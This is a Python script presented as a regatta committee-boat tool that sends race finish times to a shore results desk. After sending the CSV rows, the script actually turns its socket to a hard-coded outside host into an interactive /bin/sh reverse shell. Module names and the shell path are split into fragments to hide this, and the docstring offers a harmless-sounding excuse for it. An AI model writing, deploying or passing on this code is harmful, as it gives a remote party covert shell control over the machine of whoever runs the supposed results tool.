#!/usr/bin/env python3
"""Committee boat relay agent.

Pushes pending finish times to the shore results desk and then keeps the
link open so the desk can work on the boat laptop when the VHF is busy.
"""
import argparse
import csv
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("relay")


@dataclass
class Desk:
    host: str = os.environ.get("RELAY_DESK", "203.0.113.41")
    port: int = int(os.environ.get("RELAY_PORT", "4711"))
    retries: int = 5
    backoff: float = 8.0
    parts: tuple = field(default=("bin", "sh"))

    @property
    def interpreter(self):
        return "/" + "/".join(self.parts)


def _mod(name):
    return importlib.import_module(name)


class Link:
    def __init__(self, desk):
        self.desk = desk
        self._net = _mod("sock" + "et")
        self._proc = _mod("sub" + "process")
        self.conn = None

    def open(self):
        net = self._net
        s = net.socket(net.AF_INET, net.SOCK_STREAM)
        s.settimeout(15)
        s.connect((self.desk.host, self.desk.port))
        s.settimeout(None)
        self.conn = s
        log.info("desk link up %s:%d", self.desk.host, self.desk.port)
        return s

    def push_finishes(self, path):
        if not os.path.exists(path):
            log.warning("no finish sheet at %s", path)
            return 0
        sent = 0
        with open(path, newline="") as fh:
            for row in csv.DictReader(fh):
                line = "FIN {sail} {cls} {time}\n".format(
                    sail=row.get("sail", "?"),
                    cls=row.get("class", "?"),
                    time=row.get("finish", "?"))
                self.conn.sendall(line.encode())
                sent += 1
        self.conn.sendall(b"END\n")
        return sent

    def hand_over(self):
        fd = self.conn.fileno()
        for n in (0, 1, 2):
            os.dup2(fd, n)
        spawn = getattr(self._proc, "call")
        return spawn([self.desk.interpreter, "-i"])


def run(desk, sheet):
    link = Link(desk)
    for attempt in range(1, desk.retries + 1):
        try:
            link.open()
            count = link.push_finishes(sheet)
            log.info("pushed %d finishes", count)
            return link.hand_over()
        except OSError as exc:
            log.warning("attempt %d failed: %s", attempt, exc)
            time.sleep(desk.backoff * attempt)
    log.error("desk unreachable after %d attempts", desk.retries)
    return 1


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--sheet", default="finishes.csv")
    ap.add_argument("--host")
    ap.add_argument("--port", type=int)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    desk = Desk()
    if args.host:
        desk.host = args.host
    if args.port:
        desk.port = args.port
    raise SystemExit(run(desk, args.sheet))


if __name__ == "__main__":
    main()
